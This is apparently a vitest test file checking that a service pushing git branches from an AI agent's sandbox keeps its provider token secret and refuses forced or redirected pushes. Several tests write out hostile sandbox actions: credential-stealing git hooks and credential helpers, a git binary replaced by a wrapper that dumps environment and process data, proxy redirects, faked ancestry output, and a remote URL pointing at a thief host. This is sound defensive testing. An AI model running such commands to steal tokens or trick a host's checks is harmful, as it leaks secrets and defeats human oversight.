import { chmodSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect } from 'vitest'
import { pushBranch } from '../../../server/api/v1/git/commits.ts'
import { storeProviderTokensV1 } from '../../../server/api/v1/settings/secrets.ts'
import { storeSettingsV1 } from '../../../server/api/v1/settings/settings.ts'
import { it as base } from '../../fixtures/repository.ts'
import { PROVIDER_TOKEN, startInRepository, storeToken } from '../../parts/provider-repository.ts'

const it = base.extend('remoteLog', { scope: 'file' }, ({ remote }) => (branch: string, format = '%s %an %ae') => {
  return remote.git.git('team/tool', 'log', '-1', `--format=${format}`, branch)
})

it.beforeAll(({ service, remote }) => storeToken(service, remote.provider))

describe('a push', () => {
  it('sends the branch with the stored token, which stays nowhere', async ({
    service,
    commit,
    push,
    remoteLog,
    stateOf,
  }) => {
    const conversation = await startInRepository(service)
    await conversation.run('echo pushed >pushed.txt')
    await commit(conversation, { message: 'Push it', new_branch: 'pushed' })
    const { sha } = await push(conversation)
    expect(await remoteLog('pushed')).toBe('Push it Ada Lovelace ada@example.invalid\n')
    expect(await stateOf(conversation)).toMatchObject({ head: sha, upstream: 'origin/pushed', ahead: 0 })
    expect(await conversation.run('git rev-parse --abbrev-ref @{upstream}')).toBe('origin/pushed\n')
    const found = await conversation.run(
      `grep -rs ${PROVIDER_TOKEN} / --exclude-dir=proc --exclude-dir=sys || echo CLEAN; ls /tmp | grep tmp. || true`,
    )
    expect(found).toBe('CLEAN\n')
  })

  it('is nothing that the repository has a part in', async ({ service, commit, push, remoteLog }) => {
    const conversation = await startInRepository(service)
    const spy = 'env >/tmp/stolen; cat >>/tmp/stolen'
    await conversation.run(`
      printf '#!/bin/sh\\n${spy}\\n' >.git/hooks/pre-push; chmod +x .git/hooks/pre-push
      git config core.hooksPath .git/hooks; git config credential.helper '!f() { ${spy}; }; f'
      git config core.askPass /bin/cat; git config http.proxy http://127.0.0.1:1
      git config url.http://127.0.0.1:1/.insteadOf http://host.docker.internal
      git config --global url.http://127.0.0.1:1/.pushInsteadOf http://host.docker.internal
      git config remote.origin.pushurl http://127.0.0.1:1/; git config push.gpgSign true
      echo quiet >quiet.txt`)
    await commit(conversation, { message: 'Quiet', new_branch: 'quiet' })
    await push(conversation)
    expect(await remoteLog('quiet', '%s')).toBe('Quiet\n')
    expect(await conversation.run('cat /tmp/stolen 2>/dev/null || echo NOTHING')).toBe('NOTHING\n')
  })

  it('keeps the token from a git that the agent has put in the place of git', async ({
    service,
    commit,
    push,
    remoteLog,
  }) => {
    const conversation = await startInRepository(service)
    await conversation.run('echo t >thief.txt')
    await commit(conversation, { message: 'Thief', new_branch: 'thief' })
    await conversation.run(`
      real=$(command -v git); mv "$real" /opt/git
      printf '#!/bin/sh\\nenv >>/tmp/stolen; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do cat $f; done >>/tmp/stolen 2>/dev/null; exec /opt/git "$@"\\n' >"$real"
      chmod +x "$real"`)
    await push(conversation)
    expect(await remoteLog('thief', '%s')).toBe('Thief\n')
    expect(await conversation.run(`test -s /tmp/stolen && grep -ac ${PROVIDER_TOKEN} /tmp/stolen || true`)).toBe('0\n')
  })

  it('sends what is large as it is packed, and a second time only what is new', async ({
    service,
    commit,
    push,
    remote,
  }) => {
    const conversation = await startInRepository(service)
    await conversation.run('head -c 5000000 /dev/urandom >large')
    await commit(conversation, { new_branch: 'large' })
    await push(conversation)
    expect((await remote.git.git('team/tool', 'cat-file', '-s', 'large:large')).trim()).toBe('5000000')
    await conversation.run('echo small >small')
    await commit(conversation, {})
    const { sha } = await push(conversation)
    expect((await remote.git.git('team/tool', 'rev-parse', 'large')).trim()).toBe(sha)
  })

  it('reaches the remote where the sandbox does not', async ({ service, commit, push, remoteLog }) => {
    const conversation = await startInRepository(service)
    await conversation.run('echo o >offline.txt')
    await commit(conversation, { new_branch: 'offline' })
    await service.client.call(storeSettingsV1, { body: { allowed_hosts: [] } })
    try {
      await push(conversation)
      expect(await remoteLog('offline', '%s')).toBe('Change it\n')
    } finally {
      await service.client.call(storeSettingsV1, { body: { allowed_hosts: ['host.docker.internal'] } })
    }
  })

  it('is not forced either where the sandbox says that nothing is lost', async ({
    service,
    remoteLog,
    commit,
    push,
  }) => {
    const conversation = await startInRepository(service)
    const before = await remoteLog('large', '%H')
    await conversation.run(`
      git checkout -q -b large; echo lost >lost.txt
      real=$(command -v git); mv "$real" /opt/git
      printf '#!/bin/sh\\n[ "$2" != --ancestry-path ] || { echo "$(/opt/git rev-parse HEAD)"; exit; }; exec /opt/git "$@"\\n' >"$real"
      chmod +x "$real"`)
    await commit(conversation, {})
    await expect(push(conversation)).rejects.toMatchObject({
      code: 'git_refused',
      message: expect.stringContaining('has commits that the sandbox has not'),
    })
    expect(await remoteLog('large', '%H')).toBe(before)
  })

  it('sends no name that the sandbox makes up', async ({ service, stateOf, push }) => {
    const conversation = await startInRepository(service)
    await conversation.run(`
      real=$(command -v git); mv "$real" /opt/git
      printf '#!/bin/sh\\ncase "$*" in *symbolic-ref*HEAD) echo "refs/heads/a b:c";; *) exec /opt/git "$@";; esac\\n' >"$real"
      chmod +x "$real"`)
    const { branch } = await stateOf(conversation)
    expect(branch).toContain('a b:c')
    await expect(push(conversation)).rejects.toMatchObject({
      code: 'git_refused',
      message: expect.stringContaining('a name that git does not allow'),
    })
  })

  it('says that a commit is not whole, and changes nothing at the remote', async ({
    service,
    commit,
    push,
    remote,
  }) => {
    const conversation = await startInRepository(service)
    await conversation.run('echo b >broken.txt')
    await commit(conversation, { new_branch: 'broken' })
    await conversation.run('blob=$(git rev-parse HEAD:broken.txt); rm -f ".git/objects/${blob%${blob#??}}/${blob#??}"')
    await expect(push(conversation)).rejects.toMatchObject({
      code: 'git_refused',
      message: expect.stringContaining('could not be packed'),
    })
    expect(await remote.git.git('team/tool', 'branch', '--list', 'broken')).toBe('')
  })

  it('is never forced: it says that the remote has more', async ({ service, commit, remote, push, remoteLog }) => {
    const conversation = await startInRepository(service)
    await conversation.run('echo mine >mine.txt')
    await commit(conversation, {})
    const tree = (await remote.git.git('team/tool', 'rev-parse', 'main^{tree}')).trim()
    const author = ['-c', 'user.name=B', '-c', 'user.email=b@example.invalid']
    const sha = await remote.git.git('team/tool', ...author, 'commit-tree', tree, '-p', 'main', '-m', 'Theirs')
    await remote.git.git('team/tool', 'update-ref', 'refs/heads/main', sha.trim())
    await expect(push(conversation)).rejects.toMatchObject({
      code: 'git_refused',
      message: expect.stringContaining('has commits that the sandbox has not'),
    })
    expect(await remoteLog('main', '%s')).toBe('Theirs\n')
  })

  it('says what the remote says when it refuses', async ({ service, commit, remote, push }) => {
    const conversation = await startInRepository(service)
    await conversation.run('echo x >x.txt')
    await commit(conversation, { new_branch: 'protected' })
    const hook = join(
      (await remote.git.git('team/tool', 'rev-parse', '--absolute-git-dir')).trim(),
      'hooks/pre-receive',
    )
    writeFileSync(hook, '#!/bin/sh\necho "this branch is protected" >&2; exit 1\n')
    chmodSync(hook, 0o755)
    try {
      await expect(push(conversation)).rejects.toMatchObject({
        code: 'git_refused',
        message: expect.stringMatching(/pre-receive hook declined[\s\S]*this branch is protected/),
      })
    } finally {
      writeFileSync(hook, '#!/bin/sh\nexit 0\n')
    }
  })

  it('goes only where the person has seen that it goes', async ({ service, commit, push, stateOf }) => {
    const conversation = await startInRepository(service)
    await conversation.run('echo x >x.txt')
    await commit(conversation, { new_branch: 'seen' })
    for (const other of [{ url: 'https://elsewhere.example/x.git' }, { branch: 'main' }, { sha: '0'.repeat(40) }]) {
      await expect(push(conversation, other)).rejects.toMatchObject({ code: 'conflict' })
    }
    const seen = await stateOf(conversation)
    await conversation.run('git remote set-url origin http://thief:secret@thief.example/team/tool.git')
    const body = { url: seen.remote?.url ?? '', branch: 'seen', sha: seen.head ?? '' }
    const refused = service.client.call(pushBranch, { params: conversation.params, body })
    await expect(refused).rejects.toMatchObject({
      code: 'provider_token_missing',
      message: expect.stringContaining('thief.example'),
    })
    expect((await stateOf(conversation)).remote).toEqual({
      name: 'origin',
      url: 'http://thief.example/team/tool.git',
      git_provider: null,
    })
  })

  it('uses the token by HTTP where the remote is by SSH', async ({ service, commit, push, remoteLog }) => {
    const conversation = await startInRepository(service)
    await conversation.run('git remote set-url origin git@localhost:team/tool.git; echo s >s.txt')
    await commit(conversation, { new_branch: 'by-ssh' })
    await push(conversation)
    expect(await remoteLog('by-ssh', '%s')).toBe('Change it\n')
  })

  it('needs a token, and says where to store one', async ({ service, commit, stateOf, push, remote }) => {
    const conversation = await startInRepository(service)
    await conversation.run('echo t >t.txt')
    await commit(conversation, { new_branch: 'tokenless' })
    await service.client.call(storeProviderTokensV1, { body: { provider_tokens: {} } })
    try {
      expect((await stateOf(conversation)).push_problem).toContain('Settings › Git')
      await expect(push(conversation)).rejects.toMatchObject({ code: 'provider_token_missing' })
    } finally {
      await storeToken(service, remote.provider)
    }
  })
})
